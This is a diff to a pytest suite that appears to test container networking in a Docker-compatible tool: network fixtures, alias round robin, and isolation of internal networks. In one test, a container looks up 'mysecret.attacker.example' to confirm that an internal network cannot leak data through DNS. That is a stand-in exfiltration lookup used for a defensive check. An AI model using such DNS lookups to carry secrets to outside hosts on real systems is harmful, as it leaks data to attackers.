@@ -9,7 +9,7 @@ import subprocess
 import sys
 import time
 import urllib.request
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from pathlib import Path
 
@@ -78,6 +78,23 @@ def serving(cli: Cli, container: str, at: str, answer: str) -> Iterator[None]:
         yield
 
 
+@pytest.fixture
+def network(docker: Cli) -> Iterator[Callable[..., str]]:
+    """Makes networks, which are gone afterwards, with the containers on them."""
+    made: list[str] = []
+
+    def make(name: str, *options: str) -> str:
+        docker("network", "create", *options, name)
+        made.append(name)
+        return name
+
+    yield make
+    left = docker("ps", "-aq").stdout.split()
+    docker("rm", "-fv", *left, check=False)
+    docker("network", "rm", *made, check=False)
+
+
+@pytest.mark.census("network embedded DNS 127.0.0.11", "network host.docker.internal")
 def test_containers_on_the_default_bridge_find_each_other(cli: Cli, image: str) -> None:
     for name in ("web", "db"):
         cli("run", "-d", "--name", name, "-h", f"{name}-host", image, "sleep", "1000")
@@ -95,6 +112,39 @@ def test_containers_on_the_default_bridge_find_each_other(cli: Cli, image: str) 
     assert resolved(cli, "web", "db") == []
 
 
+@pytest.mark.census("network DNS round robin (aliases)", "network aliases")
+def test_those_who_share_an_alias_take_turns(docker: Cli, image: str, network: Callable[..., str]) -> None:
+    shop = network("names-shop")
+    for name in ("one", "two", "three"):
+        docker("run", "-d", "--name", name, "--network", shop, "--network-alias", "pool", image, "sleep", "1000")
+    firsts = []
+    for _ in range(6):
+        found = resolved(docker, "one", "pool")
+        assert len(found) == len(set(found)) == 3
+        firsts.append(found[0])
+    assert len(set(firsts)) == 3
+    docker("stop", "-t", "0", "two")
+    assert len(resolved(docker, "one", "pool")) == 2
+    assert "name = one.names-shop" in docker("exec", "three", "nslookup", resolved(docker, "three", "one")[0]).stdout
+
+
+def test_networks_do_not_know_each_other_and_internal_ones_ask_nobody(
+    docker: Cli, image: str, network: Callable[..., str]
+) -> None:
+    front, back = network("names-front"), network("names-back", "--internal")
+    docker("run", "-d", "--name", "web", "--network", front, image, "sleep", "1000")
+    docker("run", "-d", "--name", "db", "--network", back, image, "sleep", "1000")
+    assert resolved(docker, "web", "db") == resolved(docker, "db", "web") == []
+    outside = docker("exec", "db", "nslookup", "mysecret.attacker.example", check=False)
+    assert "SERVFAIL" in outside.stdout
+    docker("network", "connect", "--alias", "shop", back, "web")
+    assert resolved(docker, "db", "shop") == resolved(docker, "db", "web") != []
+    assert len(resolved(docker, "web", "db")) == 1
+    docker("network", "disconnect", back, "web")
+    assert resolved(docker, "db", "shop") == []
+
+
+@pytest.mark.census("network /etc/hosts /etc/resolv.conf /etc/hostname managed")
 def test_the_file_names_the_resolver_as_docker_s_does(docker: Cli, image: str) -> None:
     words = ["--dns", "192.0.2.1", "--dns-search", "corp.example", "--dns-option", "timeout:3"]
     text = docker("run", "--rm", *words, image, "cat", "/etc/resolv.conf").stdout
@@ -128,6 +178,7 @@ def test_a_name_server_may_run_in_the_container(docker: Cli, image: str) -> None
             assert asked.communicate()[0] == "['192.0.2.77']\n"
 
 
+@pytest.mark.census("network --dns/--dns-search/--dns-option")
 def test_servers_that_are_given_are_asked_from_inside(docker: Cli, image: str) -> None:
     """One is another container, which the host's own resolver knows nothing of."""
     docker("run", "-d", "--name", "server", image, "sleep", "1000")
@@ -137,7 +188,6 @@ def test_servers_that_are_given_are_asked_from_inside(docker: Cli, image: str) -
         assert "192.0.2.77" in addresses(found)
 
 
-@pytest.mark.census("daemon.json default-bridge-names")
 def test_docker_s_strictness_can_be_had(
     tmp_path_factory: pytest.TempPathFactory, daemon: DaemonProcess, image: str
 ) -> None:
